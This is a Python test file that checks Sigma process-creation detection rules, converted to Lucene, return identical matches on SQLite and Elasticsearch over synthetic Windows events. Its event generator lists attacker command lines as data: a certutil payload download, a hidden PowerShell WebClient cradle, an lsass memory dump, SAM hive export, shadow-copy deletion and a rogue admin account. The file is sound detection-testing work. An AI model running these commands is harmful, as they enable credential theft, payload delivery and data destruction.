"""Sigma rules as query-time detection: pySigma's Elasticsearch (Lucene) output runs the same on both stores.

The corpus rule pack (windows/process_creation) is converted with pySigma's Lucene backend and the
ECS Windows pipeline; every query is run over generated process events on SQLite and on
Elasticsearch, and both must return exactly the ids the Python matcher picks. (The in-process
Sigma engine of canh.rules is the other half of the issue's differential test; see the report.)
"""

from __future__ import annotations

import random
import warnings
from pathlib import Path
from typing import Any

import pytest

from canh.errors import QueryError
from canh.query import matcher

pytestmark = pytest.mark.slow

EXES = [
    "C:\\Windows\\System32\\cmd.exe",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "C:\\Windows\\System32\\rundll32.exe",
    "C:\\Windows\\System32\\certutil.exe",
    "C:\\Program Files\\7-Zip\\7z.exe",
    "C:\\Windows\\System32\\reg.exe",
    "C:\\Windows\\System32\\schtasks.exe",
    "C:\\Windows\\System32\\mshta.exe",
    "C:\\Windows\\System32\\wscript.exe",
    "C:\\Windows\\System32\\net.exe",
    "C:\\Users\\Public\\evil.exe",
    "C:\\Windows\\System32\\whoami.exe",
    "C:\\Windows\\System32\\bitsadmin.exe",
    "C:\\Windows\\System32\\wmic.exe",
]
ARGS = [
    "/c whoami /all",
    "-enc SQBFAFgA",
    "-nop -w hidden -c IEX(New-Object Net.WebClient)",
    "a -pSecret out.7z C:\\dump.dmp",
    "-urlcache -split -f http://10.0.0.5/a.exe C:\\Users\\Public\\a.exe",
    'javascript:"\\..\\mshtml,RunHTMLApplication"',
    "save HKLM\\SAM C:\\Windows\\Temp\\sam.save",
    "/create /sc minute /tn upd /tr C:\\Users\\Public\\evil.exe",
    "user admin P@ss /add",
    "shadowcopy delete",
    "/transfer job http://x/y C:\\Windows\\Temp\\y.exe",
    'vbscript:Execute("x")',
    "-ExecutionPolicy Bypass -File C:\\Temp\\x.ps1",
    "comsvcs.dll, MiniDump 624 C:\\lsass.dmp full",
]
ORIGINAL = [
    "Cmd.Exe",
    "PowerShell.EXE",
    "RUNDLL32.EXE",
    "CertUtil.exe",
    "7z.exe",
    "reg.exe",
    "schtasks.exe",
    "MSHTA.EXE",
]


def _events(n: int) -> list[dict[str, Any]]:
    rnd = random.Random(1183)
    out = []
    for i in range(n):
        exe = rnd.choice(EXES)
        parent = rnd.choice(EXES)
        cmd = f'"{exe}" ' + " ".join(rnd.sample(ARGS, rnd.randint(1, 2)))
        out.append(
            {
                "@timestamp": f"2026-11-22T0{i % 10}:00:{i % 60:02d}.000Z",
                "event": {"id": f"w{i:05d}", "ingested": "2026-11-22T12:00:00.000Z", "code": "1"},
                "process": {
                    "executable": exe,
                    "command_line": cmd,
                    "pe": {
                        "original_file_name": rnd.choice([*ORIGINAL, exe.rsplit("\\", 1)[1]]),
                        "description": "x",
                    },
                    "parent": {"executable": parent, "command_line": f'"{parent}"'},
                },
                "user": {"name": rnd.choice(["SYSTEM", "admin", "NT AUTHORITY\\SYSTEM"])},
            }
        )
    return out


def _converted(corpus: Path) -> list[tuple[str, str]]:
    warnings.filterwarnings("ignore")
    from sigma.backends.elasticsearch import LuceneBackend
    from sigma.collection import SigmaCollection
    from sigma.pipelines.elasticsearch import ecs_windows

    backend = LuceneBackend(ecs_windows())
    out = []
    for path in sorted((corpus / "sigma/rules/windows/process_creation").glob("*.yml")):
        try:
            queries = backend.convert(SigmaCollection.from_yaml(path.read_text()))
        except Exception:
            continue
        # Elastic's ECS templates add a lower-cased `.caseless` sub-field; Canh's do not (yet), so
        # the queries name the field itself (see the report: case-insensitive Sigma matching).
        out.extend((path.name, q.replace(".caseless:", ":")) for q in queries)
    return out


def test_sigma_lucene_queries_agree_on_both_stores(corpus: Path, tmp_path: Path) -> None:
    from tests.store.es_node import both_stores

    converted = _converted(corpus)
    assert len(converted) > 500
    # Every third query keeps the run near a minute on two shared cores (the matcher, the
    # referee, costs ~40 ms a query); which third is fixed so a failure reproduces.
    queries = converted[::3]
    events = _events(300)
    with both_stores(tmp_path, events) as (lite, es):
        differ, refused, matched = [], [], 0
        for name, q in queries:
            expected = sorted(e["event"]["id"] for e in events if matcher(q)(e))
            got_lite = sorted(r["event"]["id"] for r in lite.search("events", q, limit=1000))
            try:
                got_es = sorted(r["event"]["id"] for r in es.search("events", q, limit=1000))
            except QueryError as exc:
                # Documented limitation: regular expressions Lucene cannot run (\b, lookaround,
                # automata over its size limit) are refused with a clear error, never run wrongly.
                refused.append((name, exc.render("en")[:120]))
                continue
            matched += bool(expected)
            if not (expected == got_lite == got_es):
                differ.append((name, q[:160], len(expected), len(got_lite), len(got_es)))
        assert differ == []
        assert len(refused) <= max(2, len(queries) // 100), refused
        assert matched >= 10  # the generated events do trigger part of the pack (12 of the sampled third)
